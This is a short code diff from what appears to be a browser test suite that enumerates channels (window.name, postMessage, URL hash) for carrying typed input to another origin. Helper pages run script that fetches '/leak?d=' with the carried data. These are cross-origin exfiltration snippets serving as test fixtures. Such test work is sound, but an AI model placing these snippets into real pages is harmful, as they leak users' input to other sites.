@@ -88,7 +88,7 @@ CARRIED = [
     Way("in the window's name", sends("window.name=i.value;location='THERE/f'"), other={"/f": "<script>fetch('/leak?d='+name)</script>"}),
     Way("in a message to a frame", sends("f.contentWindow.postMessage(i.value,'*')") + "<iframe id=f src=THERE/f></iframe>", other={"/f": "<script>onmessage=(e)=>fetch('/leak?d='+e.data)</script>"}),
     Way("in a message to a window", sends("w=window.open('THERE/f');setTimeout(()=>w.postMessage(i.value,'*'),400)"), (TYPE, PRESS, Wait(1)), other={"/f": "<script>onmessage=(e)=>fetch('/leak?d='+e.data)</script>"}, top=True),
-    Way("behind the address", sends("location='THERE/f#'+i.value"), other={"/f": "<script>fetch('/leak?d='+location.hash.slice(1))</script>"}),
+    Way("behind the address", sends("location='THERE/leak#'+i.value")),  # which the next page reads
 ]  # fmt: skip
 
 FORMS = [
